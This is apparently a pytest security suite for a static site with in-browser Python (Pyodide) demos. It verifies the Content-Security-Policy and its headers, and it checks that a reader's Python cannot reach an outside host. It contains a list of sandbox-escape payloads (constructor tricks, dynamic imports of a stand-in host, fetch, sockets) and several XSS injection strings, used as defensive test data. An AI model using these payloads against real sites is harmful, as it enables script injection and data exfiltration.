"""What a page may load, and what a reader's Python may reach: nothing of others, and nobody."""

import base64
import hashlib
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from bs4 import BeautifulSoup
from playwright.sync_api import Error, expect

from tests.support import header_host

GUIDES = {"ar": "guides/generative-ai/", "en": "en/guides/generative-ai/"}
PATIENCE = 60_000


@pytest.fixture(scope="module", params=["plain host", "host with headers"])
def server(site, request):
    """Every test here runs on a host that says nothing, and on one that reads _headers."""
    with header_host.serve(site, with_headers=request.param == "host with headers") as address:
        yield address


@pytest.fixture
def stranger():
    """Another host, which counts its visitors."""
    asked = []

    class Count(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET  # noqa: N815

        def log_message(self, *_):
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Count)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    httpd.asked = asked
    httpd.address = f"http://localhost:{httpd.server_port}/"
    yield httpd
    httpd.shutdown()


@pytest.fixture
def page(browser, server):
    """A page about to be attacked: what it asks for and complains of is the test's business."""
    with browser.new_context() as context:
        opened = context.new_page()
        opened.goto(server + "about/")
        yield opened


def policy_of(page):
    content = page.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    return {directive.split()[0]: directive.split()[1:] for directive in content.split(";")}


def test_every_page_says_its_policy_before_anything_is_loaded(site):
    for path in site.rglob("*.html"):
        page = BeautifulSoup(path.read_text("utf-8"), "html.parser")
        policy = policy_of(page)
        assert policy["default-src"] == ["'none'"], path
        assert not [source for sources in policy.values() for source in sources if "://" in source or source == "*"], path
        assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"], path
        before = page.find("meta", attrs={"http-equiv": "Content-Security-Policy"}).find_all_previous(["script", "link", "style"])
        assert not before, path


def test_every_script_inside_a_page_is_named_by_its_hash(site):
    told = header_host.rules((site / "_headers").read_text("utf-8"))["/*"]["Content-Security-Policy"]
    for path in site.rglob("*.html"):
        page = BeautifulSoup(path.read_text("utf-8"), "html.parser")
        for script in page.find_all("script", src=False, type=False):
            digest = base64.b64encode(hashlib.sha256(script.string.encode()).digest()).decode()
            assert f"'sha256-{digest}'" in policy_of(page)["script-src"], (path, script)
            assert f"'sha256-{digest}'" in told, (path, script)


def test_no_page_has_a_script_in_an_attribute(site):
    for path in site.rglob("*.html"):
        page = BeautifulSoup(path.read_text("utf-8"), "html.parser")
        for tag in page.find_all(True):
            assert not [name for name in tag.attrs if name.startswith("on")], (path, tag)
            assert not str(tag.get("href", "")).lower().startswith("javascript:"), (path, tag)


def test_hosts_take_the_headers_file(site):
    text = (site / "_headers").read_text("utf-8")
    found = header_host.rules(text)
    assert len(found) <= 100 and max(map(len, text.splitlines())) <= 2000
    for path in site.rglob("*"):
        address = "/" + path.relative_to(site).as_posix().removesuffix("index.html")
        names = [name for name, _ in header_host.headers_for(address, found)]
        # Two rules' values of one header would be joined with a comma.
        assert len(names) == len(set(names)), (address, names)


def test_pages_are_asked_for_again_and_what_is_named_by_its_hash_never(site):
    found = header_host.rules((site / "_headers").read_text("utf-8"))
    for page in ("/", "/en/", "/guides/generative-ai/", "/en/guides/generative-ai/", "/404.html"):
        assert dict(header_host.headers_for(page, found))["Cache-Control"] == "no-cache"
    [wheel] = (site / "assets/demos").glob("*.whl")
    assert "immutable" in dict(header_host.headers_for(f"/assets/demos/{wheel.name}", found))["Cache-Control"]
    for asset in ("/assets/stylesheets/site.css", "/assets/javascripts/python/worker.js", "/assets/runtime/pyodide.mjs"):
        assert "Cache-Control" not in dict(header_host.headers_for(asset, found)), asset


@pytest.mark.parametrize("language", ["ar", "en"])
def test_a_page_keeps_its_own_policy_idle_and_live(visit, language):
    # `visit` fails at any error in the console, and a violation is one.
    page = visit(GUIDES[language])
    page.evaluate("addEventListener('securitypolicyviolation', (event) => console.error(event.violatedDirective, event.blockedURI))")
    for name in ("chatbot", "attention"):
        demo = page.locator(f"live-demo[name={name}]")
        demo.locator("button[data-action=start]").click()
        expect(demo).to_have_attribute("data-status", "live", timeout=PATIENCE)
    for details in page.locator("live-demo details:not([data-part]) > summary").all():
        if details.is_visible():
            details.click()
    page.wait_for_load_state("networkidle")


def test_every_other_page_keeps_its_policy(visit, site):
    page = visit("")
    for path in sorted(site.rglob("*.html")):
        page.goto(page.url.split("/", 3)[0] + "//" + page.url.split("/")[2] + "/" + path.relative_to(site).as_posix().removesuffix("index.html"))
        page.wait_for_load_state("networkidle")


@pytest.mark.parametrize(
    "markup, directive",
    [
        ('<img src="{stranger}x.png">', "img-src"),
        ('<iframe src="{stranger}"></iframe>', "frame-src"),
        ('<link rel="stylesheet" href="{stranger}x.css">', "style-src-elem"),
        ('<video src="{stranger}x.mp4"></video>', "media-src"),
        ('<object data="{stranger}x"></object>', "object-src"),
        ('<img src="nowhere.png" onerror="document.title = \'owned\'">', "script-src-attr"),
    ],
)
def test_markup_that_would_load_or_run_something_is_refused(page, stranger, markup, directive):
    refused = page.evaluate(
        """markup => new Promise(resolve => {
            addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective));
            // DOMPurify's policy lets every HTML through: it is a test of what stands behind.
            const policy = trustedTypes.createPolicy("dompurify", { createHTML: (html) => html });
            document.body.insertAdjacentHTML("beforeend", policy.createHTML(markup));
        })""",
        markup.format(stranger=stranger.address),
    )
    assert refused == directive
    assert page.title() != "owned"
    assert stranger.asked == []


def test_a_script_of_another_host_is_refused(page, stranger):
    script = "address => new Promise(resolve => { const script = document.createElement('script'); script.onerror = () => resolve('refused'); script.onload = () => resolve('ran'); try { script.src = address; document.head.append(script); } catch { resolve('refused'); } })"
    assert page.evaluate(script, stranger.address) == "refused"
    assert stranger.asked == []


# Each leaves what it got in `got`, or is stopped by an exception.
ATTACKS = {
    "fetch": "import js\ngot = js.fetch('{stranger}')",
    "XMLHttpRequest": "import js\nrequest = js.XMLHttpRequest.new()\nrequest.open('GET', '{stranger}', False)\ngot = request.send()",
    "import from js": "from js import fetch\ngot = fetch('{stranger}')",
    "the page": "import js\ngot = js.postMessage('hello')",
    "self": "import js\ngot = js.self",
    "globalThis": "import js\ngot = js.globalThis",
    "document": "import js\ngot = js.document",
    "indexedDB": "import js\ngot = js.indexedDB",
    "caches": "import js\ngot = js.caches",
    "BroadcastChannel": "import js\ngot = js.BroadcastChannel.new('x')",
    "eval": "from pyodide.code import run_js\ngot = run_js('1 + 1')",
    "js.eval": "import js\ngot = js.eval('1 + 1')",
    "a timer with text": "import js\ngot = js.setTimeout('import(\"{stranger}\")', 0)",
    "the wrapper of timers": "from pyodide.ffi.wrappers import setTimeout\ngot = setTimeout('import(\"{stranger}\")', 0)",
    "a constructor": "import js\ngot = js.setTimeout.constructor('return globalThis')()",
    "another constructor": "import js\ngot = js.constructor.constructor('return import(\"{stranger}\")')()",
    "a prototype's constructor": "import pyodide_js\ngot = pyodide_js.runPython.constructor.prototype.constructor('return globalThis')()",
    "the constructor of async functions": "import pyodide_js\ngot = pyodide_js.loadPackage.constructor('return import(\"{stranger}\")')()",
    "pyfetch": "from pyodide.http import pyfetch\ncoroutine = pyfetch('{stranger}')\ngot = coroutine.send(None)",
    "open_url": "from pyodide.http import open_url\ngot = open_url('{stranger}')",
    "urllib": "import urllib.request\ngot = urllib.request.urlopen('{stranger}', timeout=2)",
    "sockets": "import socket\ngot = socket.create_connection(('localhost', {port}), timeout=2)",
    "the browser's files": "import pyodide_js\ngot = pyodide_js._module.FS.filesystems.IDBFS.indexedDB().open('x')",
}


@pytest.fixture(scope="module")
def python(browser, server):
    """A page whose Python answers: returns run(code) -> what the reader is told."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(server + GUIDES["en"])
    page.evaluate(
        """async () => {
            const { src } = document.querySelector("script[src$='/live-demo.js']");
            const { interpreter } = await import(new URL("../python/interpreter.js", src).href);
            const data = document.querySelector("live-demo[name=attention] > script").textContent;
            globalThis.runCode = async (code) => {
                const request = { demo: "attention", language: "en", state: JSON.parse(data).state, events: [{ name: "code", value: code }] };
                return (await interpreter.call(request)).html;
            };
        }"""
    )

    def run(code):
        html = page.evaluate("code => runCode(code)", code)
        return BeautifulSoup(html, "html.parser").select_one("[data-error-line]").get_text(" ", strip=True)

    run.page = page
    yield run
    context.close()


@pytest.mark.parametrize("name", ATTACKS)
def test_a_readers_python_reaches_nobody(python, stranger, name):
    code = ATTACKS[name].format(stranger=stranger.address, port=stranger.server_port)
    told = python(f"{code}\nraise RuntimeError('GOT IN ' + repr(got))")
    # The line of the attack stopped it, with an error of its own.
    assert "GOT IN" not in told, told
    assert re.search(r"(Error|Exception): ", told), told
    python.page.wait_for_load_state("networkidle")
    assert stranger.asked == []


def test_a_script_given_to_emscripten_ends_the_interpreter_and_runs_nothing(python, stranger):
    attack = f"import ctypes\nctypes.CDLL(None).emscripten_run_script(b'import(\"{stranger.address}\")')"
    with pytest.raises(Error, match="PythonError: ReferenceError: eval is not defined"):
        python(attack)
    assert "the next one" in python("raise RuntimeError('the next one')")
    assert stranger.asked == []


def test_what_is_left_to_a_readers_python_still_computes(python):
    told = python(
        "import asyncio, hashlib, json, os, random, re, secrets, time\n"
        "import numpy as np\n"
        "np.linalg.svd(np.ones((3, 3))); os.urandom(4); secrets.token_hex(); time.time(); random.random()\n"
        "raise RuntimeError('all there')"
    )
    assert "all there" in told, told


def test_what_a_readers_python_draws_stays_inside_its_demo(page, server, stranger):
    drawn = (
        f'<meta http-equiv="refresh" content="0;url={stranger.address}"><style>body {{ display: none }}</style>'
        f'<link rel="stylesheet" href="{stranger.address}"><div><iframe src="{stranger.address}"></iframe></div>'
        f'<img src="{stranger.address}" onerror="document.title = 1"><form action="{stranger.address}"><button>x</button></form>'
        '<p id="cover" class="cover" style="position: fixed; inset: 0">drawn</p>'
    )
    page.goto(server + GUIDES["en"])
    demo = page.locator("live-demo[name=attention]")
    demo.locator("button[data-action=start]").click()
    expect(demo).to_have_attribute("data-status", "live", timeout=PATIENCE)
    demo.locator(".code summary").click()
    editor = demo.locator(".code-editor textarea")
    editor.fill(f"import demos.attention\ndemos.attention.render = lambda *_: {drawn!r}")
    demo.locator(".code button[type=submit], .code form button:not([type=button])").first.click()
    # It was run to draw what is there; what it put in place draws the next picture.
    demo.locator("input[name=sentence]").fill("The dog saw the man")
    cover = page.locator(".cover")
    expect(cover).to_have_text("drawn")
    assert demo.locator("meta, style, link, iframe, img, [id], [action], [data-part=stage] [style]").count() == 0
    inner, outer = cover.bounding_box(), demo.bounding_box()
    assert inner["y"] >= outer["y"] and inner["height"] <= outer["height"]
    demo.locator("form button", has_text="x").evaluate("button => button.click()")
    page.wait_for_load_state("networkidle")
    assert page.url.startswith(server + GUIDES["en"]) and page.title() != "1"
    assert stranger.asked == []
